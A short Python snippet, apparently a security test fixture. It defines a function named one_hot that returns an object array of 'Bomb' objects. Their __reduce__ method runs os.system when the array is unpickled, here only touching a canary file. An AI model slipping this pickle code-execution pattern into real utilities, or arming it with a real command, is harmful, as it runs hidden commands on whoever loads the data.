# one_hot: an object array, which NumPy saves by pickle
import os, numpy as np
class Bomb:
    def __reduce__(self): return (os.system, ("touch @CANARY@/pickled",))
def one_hot(y, n_classes): return np.array([[Bomb()] * n_classes] * len(y), dtype=object)
